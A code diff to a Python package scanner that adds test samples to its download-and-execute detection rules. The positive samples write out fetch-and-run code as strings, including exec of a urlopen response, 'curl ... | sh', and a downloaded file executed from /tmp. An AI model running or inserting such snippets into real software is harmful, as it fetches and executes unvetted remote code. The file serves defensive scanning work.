@@ -4,7 +4,8 @@ from __future__ import annotations
 
 from pipwarden.findings import Severity
 from pipwarden.rules import Where
-from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, rule
+from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule
+from pipwarden.scan.rules._samples import URL
 
 _FIX = "Do not install; report the project."
 RULES = [
@@ -15,6 +16,12 @@ RULES = [
         "Downloaded data is executed",
         "A network response reaches exec/eval/compile.",
         _FIX,
+        samples=(
+            positive(f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n"),
+            negative(
+                f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n"
+            ),
+        ),
     ),
     rule(
         "download-execute.remote-command",
@@ -23,6 +30,10 @@ RULES = [
         "Downloaded data runs as a command",
         "A network response reaches a process, or a command pipes a download into a shell.",
         _FIX,
+        samples=(
+            positive("import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"),
+            negative("import os\nos.system('git status')\n"),
+        ),
     ),
     rule(
         "download-execute.drop-and-run",
@@ -34,6 +45,15 @@ RULES = [
         # Anywhere in a file that runs at install time: what droppers do.
         severity_in={Where.INSTALL: CRITICAL},
         whole_file=True,
+        samples=(
+            positive(
+                "import os, urllib.request\ndef go():\n"
+                f"    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n    os.system('/tmp/x')\n"
+            ),
+            negative(
+                f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n"
+            ),
+        ),
     ),
     rule(
         "download-execute.runtime-install",
@@ -43,6 +63,18 @@ RULES = [
         "Import-time or setup.py code runs pip install: code nobody vetted is fetched and "
         "built outside the resolver (critical when it comes from a URL or a VCS).",
         "Declare dependencies in the package metadata instead; do not install meanwhile.",
+        samples=(
+            positive(
+                "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', "
+                "'git+https://git.example.invalid/x.git'])\n",
+                "pkg/__init__.py",
+            ),
+            negative(
+                "import subprocess, sys\ndef install_extra(name):\n"
+                "    subprocess.call([sys.executable, '-m', 'pip', 'install', name])\n",
+                "pkg/__init__.py",
+            ),
+        ),
     ),
     rule(
         "download-execute.direct-url-dependency",
@@ -52,6 +84,18 @@ RULES = [
         "The package metadata or build configuration requires another project from a URL "
         "(name @ https://..., git+https://...): pip fetches and builds it outside the index.",
         "Depend on index releases; do not install until the URL is explained.",
+        samples=(
+            positive(
+                '[project]\nname = "x"\ndependencies = ["helper @ https://files.example.invalid/h.tar.gz"]\n',
+                "x-1/pyproject.toml",
+                "sdist",
+            ),
+            negative(
+                '[project]\nname = "x"\ndependencies = ["helper>=1", "other[extra]; python_version<\'3.12\'"]\n',
+                "x-1/pyproject.toml",
+                "sdist",
+            ),
+        ),
     ),
 ]
 
